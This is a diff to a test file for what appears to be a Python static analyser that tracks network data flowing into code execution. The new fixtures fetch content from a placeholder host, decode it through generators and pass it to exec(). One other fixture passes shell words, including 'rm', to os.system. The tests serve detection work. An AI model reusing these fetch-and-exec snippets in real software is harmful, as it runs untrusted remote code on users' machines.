@@ -1,4 +1,5 @@
 import { describe, expect, test } from 'vitest';
+import { LABEL } from '../js/labels.ts';
 import { analyzePython } from './facts.ts';
 
 /** Texts that a source runs as code when it is loaded, and whether all of it is known. */
@@ -50,5 +51,40 @@ describe('loops over more than is gone through', () => {
     ['runs a file', `for i in range(10 ** 7):\n  print(i)\nexec(open('a').read())`],
   ])('a source is complete that %s', (_what, source) => {
     expect(analyzePython(source).complete).toBe(true);
+  });
+});
+
+describe('a loop over what a server sent', () => {
+  const SENT = 'import requests\nx = requests.get("https://a.weir.test/x").content\n';
+  const OCTETS =
+    'def octets(bits):\n  value = count = 0\n  for bit in bits:\n    value = value << 1 | bit\n    count += 1\n    if count == 8:\n      yield value\n      value = count = 0\n';
+
+  /** Whether what the server sent is run as code. */
+  function runsAnswer(source: string): boolean {
+    return analyzePython(SENT + source).flow.flows.some(
+      ({ sink, labels }) => sink === 'code' && (labels & LABEL.network) !== 0,
+    );
+  }
+
+  test.each([
+    ['comes to a count that the first rounds do not reach', `${OCTETS}exec(bytes(octets(x)))`],
+    [
+      'hands out more than the rounds that are gone through',
+      `def bits(data):\n  for octet in data:\n    yield octet & 1\n${OCTETS}exec(bytes(octets(bits(x))))`,
+    ],
+    [
+      'is taken from one by one',
+      `${OCTETS}out = octets(x)\nsize = next(out, 0)\nexec(bytes(b for b, _ in zip(out, range(size))))`,
+    ],
+  ])('%s', (_what, source) => {
+    expect(runsAnswer(source)).toBe(true);
+  });
+
+  test('a generator over what is known yields as often as it is', () => {
+    const facts = analyzePython(
+      'import os\ndef words(all):\n  n = 0\n  for word in all:\n    n += 1\n    if n == 2: yield word\nfor word in words(["rm", "make", "rm"]): os.system(word)\n',
+    );
+
+    expect(facts.commands.map(({ line }) => line)).toEqual(['make']);
   });
 });
